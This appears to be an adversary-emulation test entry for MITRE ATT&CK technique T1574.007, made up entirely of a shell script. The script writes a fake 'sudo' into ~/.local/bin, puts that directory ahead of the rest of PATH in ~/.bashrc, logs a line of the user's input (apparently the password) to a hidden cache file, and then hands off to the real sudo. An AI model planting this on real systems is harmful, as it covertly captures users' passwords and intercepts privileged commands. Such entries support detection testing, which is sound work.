# title: A program of the user's own comes before sudo in his PATH
# technique: T1574.007
# as: user

mkdir -p ~/.local/bin
printf '#!/bin/sh\nread -r p; echo "$p" >>~/.cache/p\nexec /usr/bin/sudo "$@"\n' >~/.local/bin/sudo
chmod +x ~/.local/bin/sudo
echo 'export PATH=$HOME/.local/bin:$PATH' >>~/.bashrc
